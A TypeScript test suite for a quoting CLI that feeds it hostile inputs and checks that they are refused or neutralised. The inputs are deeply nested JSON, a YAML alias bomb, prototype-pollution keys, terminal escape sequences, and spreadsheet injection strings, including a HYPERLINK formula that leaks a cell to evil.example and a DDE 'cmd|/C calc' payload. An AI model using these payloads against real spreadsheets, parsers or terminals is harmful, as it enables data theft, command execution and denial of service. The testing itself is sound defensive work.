import { expect } from 'chai';
import { startSandbox, type Sandbox } from '@quotebridge/halopsa-sandbox';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Machine } from '../../src/command/machine.js';
import { SandboxControl } from '../../src/engine/sandbox-control.js';
import { boundedRun, refusal, usual } from '../../src/hostile/bounded-run.js';
import { smallDocument } from '../../src/hostile/small-document.js';

const levels = 200_000;
const lists = '['.repeat(levels) + ']'.repeat(levels);
const objects = '{"a":'.repeat(levels) + '1' + '}'.repeat(levels);

describe('input of a hostile form', function () {
  this.timeout(120_000);
  let sandbox: Sandbox;
  let control: SandboxControl;
  let machine: Machine;
  before(async () => {
    sandbox = await startSandbox({ rateLimit: false });
    control = new SandboxControl(sandbox.url);
    machine = new Machine(sandbox, {});
  });
  after(async () => {
    machine[Symbol.dispose]();
    await sandbox.close();
  });

  function write(name: string, content: string): string {
    writeFileSync(join(machine.folder, name), content);
    return name;
  }
  const document = JSON.stringify(smallDocument({ fields: {} }));

  describe('JSON and YAML without bottom', () => {
    for (const [what, text] of [
      ['lists', lists],
      ['objects', objects],
      [
        'objects in a field of a document',
        document.replace('"fields":{', `"fields":{"x":${objects},`).replace(',}', '}'),
      ],
      ['objects in a list of documents', `{"documents":[${document},${objects}]}`],
      ['lists that are never closed', lists.slice(0, levels)],
    ] as const) {
      it(`${what} are refused as a document`, async () => {
        const error = await refusal(machine, ['plan', write('deep.json', text), '--doc', 'HOSTQ1']);
        expect(error.code).to.equal('document.invalid');
        expect(error.message).to.match(/deep|not valid JSON/);
      });
    }

    it('are refused as a plan, as a configuration and as settings', async () => {
      for (const text of [lists, objects, `{"format":"quotebridge.plan/1","operations":${lists}}`]) {
        const file = write('deep.json', text);
        for (const args of [
          ['apply', file],
          ['check', '--config', file],
          ['init', '--from', file],
        ])
          expect((await refusal(machine, args)).code).not.to.equal('remote.unavailable');
      }
    });

    it('aliases that stand for each other are not followed', async () => {
      const names = 'b c d e f g h i j k'.split(' ');
      const rows = names.map((name, index) => {
        const before = 'abcdefghij'[index] ?? '';
        return `${name}: &${name} [${Array(9).fill(`*${before}`).join(', ')}]`;
      });
      const file = write('bomb.yaml', ['a: &a [x, x, x]', ...rows].join('\n'));
      expect((await refusal(machine, ['check', '--config', file])).code).to.equal('settings.invalid');
      await refusal(machine, ['init', '--from', file]);
    });
  });

  describe('names that every object has', () => {
    it('no property is taken for one of ours', async () => {
      for (const [from, to] of [
        ['{', '{"__proto__":{"type":"ORDER"},'],
        ['"key":"1"', '"key":"1","__proto__":{"quantity":"5"}'],
        ['"key":"1"', '"key":"1","constructor":{"prototype":{"quantity":"5"}}'],
      ] as const) {
        const file = write('names.json', document.replace(from, to));
        const error = await refusal(machine, ['plan', file, '--doc', 'HOSTQ1']);
        expect(error.code).to.equal('document.invalid');
      }
    });

    it('fields of the quoting tool may be called like that', async () => {
      const fields = '"fields":{"__proto__":"a","constructor":"b","toString":"c"';
      const file = write('names.json', document.replace('"fields":{', fields));
      expect((await boundedRun(machine, ['plan', file, '--doc', 'HOSTQ1'], usual)).code).to.equal(0);
    });

    for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf']) {
      it(`a document, its lines, products and codes may be called ${name}`, async () => {
        const content = smallDocument(
          { number: name, name, purchaseOrder: name },
          { key: name, itemType: name, manufacturerPartNumber: name, unitOfMeasure: name, description: name },
        );
        const file = write('names.json', JSON.stringify(content));
        const args = ['push', file, '--doc', name, '--yes', '--json'];
        const pushed = await boundedRun(machine, args, usual);
        expect(pushed.code, pushed.stdout).to.equal(0);
        expect(pushed.stdout).to.contain('"status":"written"');
        expect((await boundedRun(machine, args, usual)).stdout).to.contain('"status":"unchanged"');
        const { quotes = [] } = await control.data('quotes');
        const quote = quotes.filter((row) => row['third_party_number'] === `quotebridge:${name}`);
        expect(quote).to.have.length(1);
      });

      it(`and ${name} is no sales representative, tax code, list, schema, connection or setting`, async () => {
        const content = smallDocument({ salesRepresentative: name, preparedBy: name }, { taxCode: name });
        const file = write('names.json', JSON.stringify(content));
        const { code } = await boundedRun(machine, ['plan', file, '--doc', 'HOSTQ1', '--json'], usual);
        expect(code).to.be.oneOf([0, 2, 5]);
        for (const args of [
          ['lookups', name],
          ['schema', name],
          ['check', '--connection', name],
          ['init', '--set', `${name}.polluted=1`],
        ])
          expect((await refusal(machine, args)).code, args.join(' ')).to.equal('usage');
      });
    }
  });

  it('texts that look like formulas reach the PSA as they are, and a spreadsheet as text', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Total")';
    const content = smallDocument(
      { number: 'FORMQ1', name: formula },
      { description: '@SUM(1+1)*cmd|/C calc!A0' },
    );
    const file = write('formulas.json', JSON.stringify(content));
    await machine.succeed(['push', file, '--doc', 'FORMQ1', '--yes']);
    const { quotes = [] } = await control.data('quotes');
    const quote = quotes.find((row) => row['third_party_number'] === 'quotebridge:FORMQ1');
    expect(quote?.['title']).to.equal(formula);
    expect((quote?.['lines'] as Record<string, unknown>[])[0]?.['name']).to.equal('@SUM(1+1)*cmd|/C calc!A0');

    await machine.succeed(['history', '--csv', 'history.csv']);
    const cells = readFileSync(join(machine.folder, 'history.csv'), 'utf8');
    expect(cells).to.contain('HYPERLINK');
    expect(cells).not.to.match(/(^|,|\r\n)"?[=@]/);
  });

  it('texts that would steer the terminal are shown', async () => {
    const name = 'red \u001b[31m \u001b]0;title\u0007 \u202egpj.exe \u0000';
    const file = write('steering.json', JSON.stringify(smallDocument({ name })));
    const { stdout, stderr } = await boundedRun(machine, ['plan', file, '--doc', 'HOSTQ1'], usual);
    // eslint-disable-next-line no-control-regex
    expect(`${stdout}${stderr}`).not.to.match(/[\u001b\u0007\u0000\u202e]/);
  });
});
